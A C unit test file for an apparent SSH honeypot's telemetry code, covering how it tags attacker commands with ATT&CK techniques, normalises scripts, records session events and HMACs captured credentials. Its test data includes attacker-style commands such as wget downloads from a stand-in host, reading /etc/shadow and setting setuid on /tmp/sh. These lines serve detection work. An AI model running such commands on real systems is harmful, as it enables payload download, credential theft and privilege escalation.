#include "../test.h"

#include <openssl/evp.h>

#include "base/buffer.h"
#include "decoy/technique.h"
#include "decoy/tell.h"
#include "observe/registry.h"

/* ---- techniques ---- */

static void note(void *user, uint16_t technique)
{
	uint16_t *all = user;

	while (*all != 0)
		all++;
	*all = technique;
}

static void commands_show_techniques(void **state)
{
	static const struct {
		const char *words;
		uint16_t techniques[4];
	} rows[] = {
		{ "wget http://192.0.2.1/x", { HIN_TECHNIQUE_T1105 } },
		{ "/bin/busybox wget http://192.0.2.1/x", { HIN_TECHNIQUE_T1105 } },
		{ "busybox ECCHI", { 0 } },
		{ "chmod 777 x", { HIN_TECHNIQUE_T1222_002 } },
		{ "chmod u+s /tmp/sh", { HIN_TECHNIQUE_T1222_002, HIN_TECHNIQUE_T1548_001 } },
		{ "cat /etc/passwd", { HIN_TECHNIQUE_T1087_001 } },
		{ "cat /etc/shadow", { HIN_TECHNIQUE_T1003_008 } },
		{ "sudo wget x", { HIN_TECHNIQUE_T1548_003, HIN_TECHNIQUE_T1105 } },
		{ "nohup curl -O x", { HIN_TECHNIQUE_T1105 } },
		{ "uname -a", { HIN_TECHNIQUE_T1082 } },
		{ "echo wget", { 0 } },
		{ "", { 0 } },
		{ "busybox", { 0 } },
		{ "sudo", { HIN_TECHNIQUE_T1548_003 } },
	};

	(void)state;
	for (size_t i = 0; i < HIN_COUNT(rows); i++) {
		uint16_t found[16] = { 0 };

		hin_techniques_of(rows[i].words, strlen(rows[i].words), note, found);
		for (int k = 0; k < 4; k++)
			assert_int_equal(found[k], rows[i].techniques[k]);
	}
}

static void a_script_is_the_same_each_time(void **state)
{
	static const char *const same[][3] = {
		{ "wget http://192.0.2.1/a", "wget ftp://[2001:db8::1]/b", "wget URL\n" },
		{ "/bin/busybox ECCHI", "/bin/busybox MIORI", "/bin/busybox RANDOM\n" },
		{ "ping 192.0.2.1", "ping 2001:db8::5", "ping ADDRESS\n" },
		{ "echo a12b", "echo a7b", "echo a0b\n" },
		{ "sh /tmp/x.sh", "sh /tmp/x.sh", "sh /tmp/x.sh\n" },
		{ "rm k3jf82ka", "rm p9wq71zz", "rm RANDOM\n" },
	};

	(void)state;
	for (size_t i = 0; i < HIN_COUNT(same); i++)
		for (int k = 0; k < 2; k++) {
			struct hin_buffer out = { 0 };

			hin_command_normalise(same[i][k], strlen(same[i][k]), &out);
			assert_string_equal(hin_buffer_text(&out), same[i][2]);
			hin_buffer_fini(&out);
		}
}

/* ---- rows ---- */

struct rows {
	struct hin_observation items[256];
	size_t count;
};

static void on_row(void *user, const struct hin_observation *row)
{
	struct rows *rows = user;
	struct hin_error err = { 0 };

	assert_int_equal(hin_observation_check(row, &err), HIN_OK); /* the kind allows them all */
	assert_true(rows->count < HIN_COUNT(rows->items));
	rows->items[rows->count++] = *row;
}

static struct hin_story begun(void)
{
	struct hin_wire_about about = { .client = hin_addr_of_v4(0xc0000201),
					.server = hin_addr_of_v4(0xc6336407),
					.client_port = 40000,
					.server_port = 22,
					.service = HIN_SERVICE_SSH,
					.verdict = HIN_VERDICT_SUCCESS };
	struct hin_story story;

	hin_story_begin(&story, &about, 4711, 1000000);
	return story;
}

static struct hin_event event_of(uint16_t type, const char *a, const void *b, size_t b_size,
				 uint64_t number, uint8_t verdict)
{
	return (struct hin_event){ .time_us = 2000000,
				   .type = type,
				   .verdict = verdict,
				   .number = number,
				   .a = a,
				   .a_size = strlen(a),
				   .b = b,
				   .b_size = b_size };
}

static void a_session_becomes_rows(void **state)
{
	static struct rows rows;
	static const uint8_t digest[32] = { 1, 2, 3 }, hassh[16] = { 4, 5, 6 };
	struct hin_teller_of to = { .credential_key = { 9 }, .row = on_row, .user = &rows };
	struct hin_wire_message end = { .time_us = 61000000, .from_client = 100, .to_client = 200 };
	struct hin_story story = begun();
	const struct hin_event events[] = {
		event_of(HIN_EVENT_CLIENT, "SSH-2.0-OpenSSH_9.2p1", NULL, 0, 0, 0),
		event_of(HIN_EVENT_FINGERPRINT, "hassh", hassh, 16, 0, 0),
		event_of(HIN_EVENT_CREDENTIAL, "root", "1234", 4, HIN_CREDENTIAL_PASSWORD,
			 HIN_VERDICT_REFUSED),
		event_of(HIN_EVENT_CREDENTIAL, "root", "toor", 4, HIN_CREDENTIAL_PASSWORD,
			 HIN_VERDICT_SUCCESS),
		event_of(HIN_EVENT_COMMAND, "wget http://192.0.2.9/x", NULL, 0, 0, 0),
		event_of(HIN_EVENT_DOWNLOAD, "http://192.0.2.9/x", "x", 1, 0, 0),
		event_of(HIN_EVENT_FILE, "/tmp/x", digest, 32, 512, 0),
		event_of(HIN_EVENT_FORWARD, "192.0.2.80", NULL, 0, 443, 0),
		event_of(HIN_EVENT_FORWARD, "www.example.com", NULL, 0, 80, 0),
		event_of(HIN_EVENT_HONEYTOKEN, "backup-password", NULL, 0, 0, 0),
	};
	static const uint16_t kinds[] = {
		HIN_KIND_DECOY_CLIENT,	  HIN_KIND_DECOY_CREDENTIAL, HIN_KIND_DECOY_CREDENTIAL,
		HIN_KIND_DECOY_LOGIN,	  HIN_KIND_DECOY_DOWNLOAD,   HIN_KIND_DECOY_FILE,
		HIN_KIND_DECOY_FORWARD,	  HIN_KIND_DECOY_FORWARD,    HIN_KIND_DECOY_HONEYTOKEN,
		HIN_KIND_DECOY_TECHNIQUE, HIN_KIND_DECOY_SCRIPT,     HIN_KIND_DECOY_CONNECTION,
	};
	struct hin_addr target = hin_addr_of_v4(0xc0000250);

	(void)state;
	story.is_program = true;
	for (size_t i = 0; i < HIN_COUNT(events); i++)
		hin_story_event(&story, &events[i], &to);
	hin_story_end(&story, &end, digest, &to);
	assert_int_equal(rows.count, HIN_COUNT(kinds));
	for (size_t i = 0; i < HIN_COUNT(kinds); i++) {
		assert_int_equal(rows.items[i].kind, kinds[i]);
		assert_int_equal(rows.items[i].link, 4711);
	}
	assert_int_equal(rows.items[0].product, UINT64_C(0x94b0c649c2a39e6a));
	assert_memory_equal(rows.items[0].artifact, hassh, 16);
	assert_memory_not_equal(rows.items[1].artifact, rows.items[2].artifact, 32);
	assert_memory_equal(rows.items[2].artifact, rows.items[3].artifact, 32);
	assert_int_equal(rows.items[5].bytes, 512);
	assert_int_equal(rows.items[5].tags[0], HIN_TAG_PROGRAM);
	assert_memory_equal(&rows.items[6].dst, &target, 16);
	assert_int_equal(rows.items[6].dport, 443);
	assert_false(rows.items[7].has & HIN_HAS_DST); /* a name is a stranger's text */
	assert_int_equal(rows.items[9].technique, HIN_TECHNIQUE_T1105);
	assert_int_equal(rows.items[10].packets, 1);
	assert_int_equal(rows.items[11].bytes, 300);
	assert_int_equal(rows.items[11].duration_us, 60000000);
	assert_memory_equal(rows.items[11].evidence, digest, 32);
}

/* HMAC-SHA-256 of "root\0toor" under 0x01 repeated, as `openssl mac` computes it. */
static void a_credential_is_a_keyed_digest(void **state)
{
	static const char expected[] =
		"c6e4924b7d827feda954fd46f5e5505bd9cdc36a8087c6886430e046eb594dd3";
	static struct rows rows;
	struct hin_teller_of to = { .row = on_row, .user = &rows };
	struct hin_event event = event_of(HIN_EVENT_CREDENTIAL, "root", "toor", 4,
					  HIN_CREDENTIAL_PASSWORD, HIN_VERDICT_REFUSED);
	struct hin_story story = begun();
	char text[65];

	(void)state;
	memset(to.credential_key, 1, sizeof(to.credential_key));
	hin_story_event(&story, &event, &to);
	for (int i = 0; i < 32; i++)
		snprintf(text + 2 * i, 3, "%02x", rows.items[0].artifact[i]);
	assert_string_equal(text, expected);
}

static void one_session_cannot_fill_a_road(void **state)
{
	static struct rows rows;
	struct hin_teller_of to = { .row = on_row, .user = &rows };
	struct hin_event event = event_of(HIN_EVENT_CREDENTIAL, "root", "x", 1,
					  HIN_CREDENTIAL_PASSWORD, HIN_VERDICT_REFUSED);
	struct hin_story story = begun();

	(void)state;
	for (int i = 0; i < 10000; i++)
		hin_story_event(&story, &event, &to);
	assert_int_equal(rows.count, HIN_STORY_ROWS);
}

static void the_same_script_has_the_same_digest(void **state)
{
	static const char *const scripts[3][2] = {
		{ "wget http://192.0.2.1/a", "sh a" },
		{ "wget http://192.0.2.77/zz", "sh a" },
		{ "sh a", "wget http://192.0.2.1/a" },
	};
	static struct rows rows;
	struct hin_teller_of to = { .row = on_row, .user = &rows };
	struct hin_wire_message end = { .time_us = 3000000 };
	uint8_t digests[3][32];

	(void)state;
	for (int i = 0; i < 3; i++) {
		struct hin_story story = begun();

		for (int k = 0; k < 2; k++) {
			struct hin_event event =
				event_of(HIN_EVENT_COMMAND, scripts[i][k], NULL, 0, 0, 0);

			hin_story_event(&story, &event, &to);
		}
		rows.count = 0;
		hin_story_end(&story, &end, NULL, &to);
		assert_int_equal(rows.items[rows.count - 2].kind, HIN_KIND_DECOY_SCRIPT);
		memcpy(digests[i], rows.items[rows.count - 2].artifact, 32);
	}
	assert_memory_equal(digests[0], digests[1], 32);
	assert_memory_not_equal(digests[0], digests[2], 32);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(commands_show_techniques),
		cmocka_unit_test(a_script_is_the_same_each_time),
		cmocka_unit_test(a_session_becomes_rows),
		cmocka_unit_test(a_credential_is_a_keyed_digest),
		cmocka_unit_test(one_session_cannot_fill_a_road),
		cmocka_unit_test(the_same_script_has_the_same_digest),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
